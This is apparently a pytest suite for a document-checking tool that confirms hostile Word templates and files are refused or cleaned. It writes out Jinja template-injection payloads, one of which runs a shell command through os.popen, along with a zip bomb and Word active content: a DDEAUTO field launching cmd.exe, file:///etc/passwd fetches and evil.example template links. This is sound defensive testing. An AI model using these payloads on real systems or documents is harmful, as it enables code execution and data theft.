"""Hostile report templates and Word files (issue 15): no code runs, no bound is exceeded, no output
carries active content or an external reference. Every hostile file is built here, in tmp_path."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from docx import Document
from test_report_fixtures import make_result

from lexcheck.errors import InputError
from lexcheck.report import render_docx, template_env
from lexcheck.report.docx_clean import active_content, clean_docx
from lexcheck.report.docx_report import default_template

ANCHOR = "{{ t.contents }}"

# (name, tag inserted into the template's body, words the one-line error must contain)
HOSTILE_TAGS = [
    ("shell", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "refused"),
    ("subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "unsafe"),
    ("globals", "{{ self.__init__.__globals__ }}", "unsafe"),
    ("range", "{% for i in range(10**9) %}x{% endfor %}", "range()"),
    (
        "nested loops",
        "{% for a in t %}{% for b in t %}{% for c in t %}{% for d in t %}{% endfor %}"
        "{% endfor %}{% endfor %}{% endfor %}",
        "loops",
    ),
    ("multiply", "{{ 'x' * 10**9 }}", "characters"),
    ("power", "{{ 2 ** (10 ** 10) }}", "too large"),
    ("doubling", "{% set a = t.draft_notice %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}", "characters"),
    (
        "namespace doubling",
        "{% set ns = namespace(a=t.draft_notice) %}{% for i in range(40) %}{% set ns.a = ns.a ~ ns.a %}"
        "{% endfor %}{{ ns.a }}",
        "characters",
    ),
    ("plus doubling", "{% set a = t.draft_notice %}" + "{% set a = a + a %}" * 40 + "{{ a }}", "characters"),
    ("center", "{{ t.draft|center(10**8) }}", "too large"),
    ("str.format width", "{{ '{:>999999999}'.format(1) }}", "format"),
    ("printf width", "{{ '%999999999d' % 1 }}", "%"),
    ("ljust", "{{ 'x'.ljust(10**8) }}", "ljust"),
    ("replace", "{{ t.method_limits.replace('', t.method_limits).replace('', t.method_limits) }}", "replace"),
    ("join", "{{ range(90000)|join(t.method_limits) }}", "join"),
    (
        "output size",
        "{% for i in range(10000) %}{% for j in range(9) %}{{ t.method_limits }}{% endfor %}{% endfor %}",
        "part grew",
    ),
    ("macro recursion", "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}", "macros"),
    ("macro doubling", "{% macro d(s) %}{{ d(s ~ s) }}{% endmacro %}{{ d(t.draft_notice) }}", "too large"),
    ("include", "{% include 'other.docx' %}", "include"),
    ("import", "{% import 'x' as x %}", "import"),
    ("autoescape off", "{% autoescape false %}{{ '<w:r/>' }}{% endautoescape %}", "autoescape"),
    ("safe filter", "{{ '<w:r/>'|safe }}", "safe"),
    ("unknown global", "{{ lipsum(5) }}", "lipsum"),
    ("syntax error", "{% for %}", "tag error"),
    ("unclosed", "{% if country %}", "tag error"),
]


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _rewrite(src: bytes, edits: dict[str, bytes | None], extra: dict[str, bytes] | None = None) -> bytes:
    """A copy of the .docx ``src`` with parts replaced (None drops one) and parts added."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename in edits:
                if edits[item.filename] is not None:
                    zout.writestr(item.filename, edits[item.filename])
            else:
                zout.writestr(item, zin.read(item.filename))
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return buf.getvalue()


def tagged_template(tmp_path: Path, tag: str, name: str = "t.docx") -> Path:
    """The default template with ``tag`` written into its body, next to the contents heading."""
    src = default_template().read_bytes()
    with zipfile.ZipFile(io.BytesIO(src)) as z:
        xml = z.read("word/document.xml").decode()
    assert ANCHOR in xml
    xml = xml.replace(ANCHOR, ANCHOR + _xml_text(tag), 1)
    path = tmp_path / name
    path.write_bytes(_rewrite(src, {"word/document.xml": xml.encode()}))
    return path


@pytest.fixture(scope="module")
def result_json(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("res") / "result.json"
    path.write_text(make_result().to_json(), encoding="utf-8")
    return path


@pytest.mark.parametrize("name,tag,words", HOSTILE_TAGS, ids=[c[0] for c in HOSTILE_TAGS])
def test_hostile_tag_is_one_line_error(tmp_path, name, tag, words):
    tpl = tagged_template(tmp_path, tag)
    out = tmp_path / "r.docx"
    start = time.monotonic()
    with pytest.raises(InputError) as exc:
        render_docx(make_result(), out, template=tpl, date="2025-01-01")
    assert time.monotonic() - start < 20  # generous: a loaded machine; the bounds act in well under 1 s
    line = exc.value.one_line()
    assert line.startswith(f"{tpl}: ") and "\n" not in line
    assert words in line, line
    assert "uid=" not in line and not out.exists()


def test_cli_shell_template_exit_2(tmp_path, cli, result_json):
    tpl = tagged_template(tmp_path, "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
    out = tmp_path / "r.docx"
    code, stdout, stderr = cli("report", result_json, "--template", tpl, "-o", out)
    assert code == 2, stderr
    assert stderr.startswith(f"lexcheck: error: {tpl}: report template refused") and stderr.count("\n") == 1
    assert "Traceback" not in stderr and "uid=" not in stdout + stderr and not out.exists()


def test_time_budget(tmp_path, monkeypatch):
    monkeypatch.setattr(template_env, "TIME_BUDGET", 0.0)
    tpl = tagged_template(tmp_path, "{% for d in documents %}{{ d.title }}{% endfor %}")
    with pytest.raises(InputError, match="longer than 0 seconds"):
        render_docx(make_result(), tmp_path / "r.docx", template=tpl)


def test_escaping_stays_text(tmp_path):
    """A tag that tries to write Word XML gets it as text, and the usual template language still works."""
    tag = (
        "{{ '</w:t></w:r><w:r><w:t>INJECTED' }}|{{ country|upper }}|{{ range(3)|join('-') }}|"
        "{% for s in statuses %}{{ loop.index }}{% endfor %}|{{ t.draft.replace('Draft', 'D') }}|"
        "{% set ns = namespace(n=0) %}{% for d in documents %}{% set ns.n = ns.n + 1 %}{% endfor %}{{ ns.n }}"
    )
    out = tmp_path / "r.docx"
    render_docx(make_result(), out, template=tagged_template(tmp_path, tag), date="2025-01-01")
    text = "\n".join(p.text for p in Document(str(out)).paragraphs)
    ndocs = len(make_result().documents)
    assert f"</w:t></w:r><w:r><w:t>INJECTED|REPUBLIC OF ARCADIA|0-1-2|12345|D|{ndocs}" in text


def test_memory_and_time_of_all_hostile_templates(tmp_path):
    """All hostile templates in a fresh interpreter: peak memory (VmHWM) and wall time stay small."""
    paths = [tagged_template(tmp_path, tag, f"t{i}.docx") for i, (_, tag, _) in enumerate(HOSTILE_TAGS)]
    script = (
        "import json, sys, time\n"
        "from test_report_fixtures import make_result\n"
        "from lexcheck.errors import InputError\n"
        "from lexcheck.report import render_docx\n"
        "refused, t0 = 0, time.monotonic()\n"
        "for p in json.loads(sys.argv[1]):\n"
        "    try:\n"
        "        render_docx(make_result(), p + '.out.docx', template=p)\n"
        "    except InputError:\n"
        "        refused += 1\n"
        # VmHWM, not ru_maxrss: Linux carries the parent's (pytest's) ru_maxrss over fork and exec
        "hwm = [int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM')][0]\n"
        "print(json.dumps([refused, time.monotonic() - t0, hwm / 1024]))\n"
    )
    tests_dir = Path(__file__).resolve().parent
    env_path = f"{tests_dir}{os.pathsep}{tests_dir.parent}"
    proc = subprocess.run(
        [sys.executable, "-c", script, json.dumps([str(p) for p in paths])],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "PYTHONPATH": env_path},
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    refused, seconds, peak_mb = json.loads(proc.stdout.strip().splitlines()[-1])
    print(f"{len(paths)} hostile templates: {seconds:.1f} s, peak RSS {peak_mb:.0f} MB")
    assert refused == len(paths)
    assert peak_mb < 500  # about 100 MB; the unbounded versions took 1.5-7 GB
    assert seconds < 120


# ----------------------------------------------------------------------------- hostile containers
def _bomb(src: bytes) -> bytes:
    return _rewrite(src, {}, {"word/media/bomb.xml": b"\0" * 20_000_000})


def _dtd_in_rels(src: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(src)) as z:
        rels = z.read("word/_rels/document.xml.rels")
    evil = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaa">]>' + rels.split(b"?>", 1)[1]
    return _rewrite(src, {"word/_rels/document.xml.rels": evil})


CONTAINERS = [
    ("zip bomb", _bomb, "zip bomb"),
    ("DTD in .rels", _dtd_in_rels, "document type declaration"),
    ("not a zip", lambda src: b"just text, not a Word file", "not a zip"),
    ("truncated", lambda src: src[: len(src) // 2], "corrupt"),
    ("no document part", lambda src: _rewrite(src, {"word/document.xml": None}), "word/document.xml"),
    ("spreadsheet", lambda src: _retype(src, b"spreadsheetml.sheet.main+xml"), "no Word document"),
    ("huge header", lambda src: _huge_header(src), "at most"),
]


def _huge_header(src: bytes) -> bytes:
    """A header of 6 MB of text that does not compress (so no zip bomb): too large to compile."""
    with zipfile.ZipFile(io.BytesIO(src)) as z:
        xml = z.read("word/header1.xml")
    filler = os.urandom(3_000_000).hex().encode()
    return _rewrite(
        src,
        {
            "word/header1.xml": xml.replace(
                b"</w:hdr>", b"<w:p><w:r><w:t>" + filler + b"</w:t></w:r></w:p></w:hdr>"
            )
        },
    )


def _retype(src: bytes, main: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(src)) as z:
        types = z.read("[Content_Types].xml")
    return _rewrite(src, {"[Content_Types].xml": types.replace(b"wordprocessingml.document.main+xml", main)})


@pytest.mark.parametrize("name,make,words", CONTAINERS, ids=[c[0] for c in CONTAINERS])
def test_hostile_template_container(tmp_path, name, make, words):
    tpl = tmp_path / "t.docx"
    tpl.write_bytes(make(default_template().read_bytes()))
    with pytest.raises(InputError) as exc:
        render_docx(make_result(), tmp_path / "r.docx", template=tpl)
    assert exc.value.path == str(tpl) and words in exc.value.message, exc.value.message


# ----------------------------------------------------------------------------- active content
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EVIL_BODY = (
    '<w:altChunk r:id="rIdEvilChunk"/>'
    '<w:p><w:hyperlink r:id="rIdEvilLink"><w:r><w:t>Click here</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:r><w:drawing><wp:inline><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
    '<a:blip r:link="rIdEvilImage"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
    "</w:drawing></w:r></w:p>"
    '<w:p><w:r><w:object><w:control r:id="rIdEvilActiveX" w:name="X"/></w:object></w:r></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE'
    '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
    '"/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>DDE result text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;file:///etc/passwd&quot; \\d "><w:r><w:t>Picture text'
    "</w:t></w:r></w:fldSimple></w:p>"
)
EVIL_RELS = (
    f'<Relationship Id="rIdEvilLink" Type="{R}/hyperlink" Target="https://evil.example/x" TargetMode="External"/>'
    f'<Relationship Id="rIdEvilImage" Type="{R}/image" Target="file:///etc/passwd" TargetMode="External"/>'
    f'<Relationship Id="rIdEvilActiveX" Type="{R}/control" Target="activeX/activeX1.xml"/>'
    '<Relationship Id="rIdEvilVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
    'Target="vbaProject.bin"/>'
    f'<Relationship Id="rIdEvilOle" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
    f'<Relationship Id="rIdEvilChunk" Type="{R}/aFChunk" Target="afchunk1.mht"/>'
)
EVIL_PARTS = {
    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro code",
    "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole",
    "word/afchunk1.mht": b"MIME-Version: 1.0\r\n\r\n<script>evil()</script>",
}
MARKERS = (
    b"evil.example",
    b"file:///",
    b"DDEAUTO",
    b"vbaProject",
    b"activeX",
    b'TargetMode="External"',
    b"macroEnabled",
    b"INCLUDEPICTURE",
    b"attachedTemplate",
    b"afchunk",
    b"altChunk",
)


def make_hostile_docx(src: bytes, *, macro_type: bool = True, body: bool = True) -> bytes:
    """``src`` with macros, ActiveX, OLE, external links and images, a remote attachedTemplate and
    dangerous fields (in the body when ``body``, always in the first header)."""
    with zipfile.ZipFile(io.BytesIO(src)) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    doc = parts["word/document.xml"].decode()
    if body:
        doc = doc.replace("<w:body>", "<w:body>" + EVIL_BODY, 1)
    doc = doc.replace("<w:document ", f'<w:document xmlns:r="{R}" ', 1) if "xmlns:r=" not in doc else doc
    rels = (
        parts["word/_rels/document.xml.rels"]
        .decode()
        .replace("</Relationships>", EVIL_RELS + "</Relationships>")
    )
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdEvilTpl"/>', settings, count=1)
    if "xmlns:r=" not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdEvilTpl" Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="mht" ContentType="message/rfc822"/>'
        '<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
    )
    if macro_type:
        types = types.replace("wordprocessingml.document.main+xml", "PLACEHOLDER").replace(
            "application/vnd.openxmlformats-officedocument.PLACEHOLDER",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    edits = {
        "word/document.xml": doc.encode(),
        "word/_rels/document.xml.rels": rels.encode(),
        "word/settings.xml": settings.encode(),
        "[Content_Types].xml": types.encode(),
    }
    extra = {**EVIL_PARTS, "word/_rels/settings.xml.rels": settings_rels.encode()}
    return _rewrite(src, edits, extra)


def assert_clean(data: bytes) -> None:
    """Every part of the zip is free of active content and external references."""
    assert active_content(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            raw = z.read(name)
            for marker in MARKERS:
                assert marker not in raw, (name, marker)
            assert not name.endswith(".bin"), name


def test_hostile_docx_is_really_hostile():
    data = make_hostile_docx(default_template().read_bytes())
    found = " ".join(active_content(data))
    for what in ("vbaProject", "activeX", "evil.example", "field that fetches", "content type"):
        assert what in found


@pytest.mark.parametrize("suffix", [".docm", ".docx", ".dotm"])
def test_tagged_template_with_active_content(tmp_path, suffix):
    tpl = tmp_path / f"hostile{suffix}"
    tpl.write_bytes(make_hostile_docx(default_template().read_bytes()))
    out = tmp_path / "r.docx"
    render_docx(make_result(), out, template=tpl, date="2025-01-01")
    data = out.read_bytes()
    assert_clean(data)
    text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    assert "Click here" in text and "DDE result text" in text and "Picture text" in text
    assert "Executive summary" in text


def test_branded_template_with_active_content(tmp_path):
    brand = Document()
    brand.sections[0].header.paragraphs[0].text = "ACME Ministry of Justice"
    brand.add_paragraph("Letterhead")
    buf = io.BytesIO()
    brand.save(buf)
    tpl = tmp_path / "brand.docx"
    tpl.write_bytes(make_hostile_docx(buf.getvalue()))
    out = tmp_path / "r.docx"
    render_docx(make_result(), out, template=tpl, date="2025-01-01")
    data = out.read_bytes()
    assert_clean(data)
    doc = Document(io.BytesIO(data))
    assert "ACME Ministry of Justice" in doc.sections[0].header.paragraphs[0].text


def test_annotate_in_place_strips_active_content(tmp_path, cli):
    law = Document()
    law.add_paragraph("Article 1. Trafficking in human beings")
    law.add_paragraph(
        "1. The recruitment, transportation, transfer, harbouring or receipt of persons by means of force "
        "for the purpose of exploitation is punishable by imprisonment of 8 to 15 years."
    )
    buf = io.BytesIO()
    law.save(buf)
    path = tmp_path / "law.docx"
    hostile = make_hostile_docx(buf.getvalue(), macro_type=False)
    path.write_bytes(hostile)
    out = tmp_path / "annotated.docx"
    code, _, stderr = cli("annotate", path, "-o", out)
    assert code == 0, stderr
    data = out.read_bytes()
    assert_clean(data)
    text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    assert "Click here" in text and "Article 1. Trafficking" in text
    assert path.read_bytes() == hostile  # the input untouched


def test_clean_docx_leaves_a_clean_file_alone():
    src = default_template().read_bytes()
    assert clean_docx(src, "t.docx") is src


# (name, body XML put into a plain document, text that must survive, bytes that must be gone)
FIELD_CASES = [
    (
        "DDEAUTO split over runs, other prefix",
        '<w:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r><w:fldChar '
        'w:fldCharType="begin"/></w:r><w:r><x:instrText>D</x:instrText></w:r><w:r><x:instrText>DEAUTO '
        'cmd</x:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kept text</w:t>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "kept text",
        b"DEAUTO",
    ),
    (
        "comment inside a field code",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE<!-- x -->TEXT '
        '"c:/secret.txt"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>'
        'shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "shown",
        b"secret.txt",
    ),
    (
        "character reference in a field code",
        '<w:p><w:fldSimple w:instr="&#68;DEAUTO cmd"><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>',
        "simple",
        b"DEAUTO",
    ),
    (
        "VML picture linked by o:href",
        '<w:p><w:r><w:t>before</w:t></w:r><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" o:href="file:///C:/x.png"/>'
        "</v:shape></w:pict></w:r></w:p>",
        "before",
        b"file:///",
    ),
    (
        "internal HYPERLINK field kept",
        '<w:p><w:fldSimple w:instr=" HYPERLINK \\l &quot;top&quot; "><w:r><w:t>to the top</w:t></w:r>'
        "</w:fldSimple></w:p>",
        "to the top",
        b"evil",
    ),
]


@pytest.mark.parametrize("name,body,kept,gone", FIELD_CASES, ids=[c[0] for c in FIELD_CASES])
def test_clean_docx_fields_and_links(name, body, kept, gone):
    buf = io.BytesIO()
    Document().save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        xml = z.read("word/document.xml").decode()
    hostile = _rewrite(
        buf.getvalue(), {"word/document.xml": xml.replace("<w:body>", "<w:body>" + body).encode()}
    )
    cleaned = clean_docx(hostile, "law.docx")
    assert active_content(cleaned) == []
    with zipfile.ZipFile(io.BytesIO(cleaned)) as z:
        assert gone not in z.read("word/document.xml")
    body_xml = Document(io.BytesIO(cleaned)).element.body
    assert kept in "".join(t.text or "" for t in body_xml.iter(f"{{{W}}}t"))
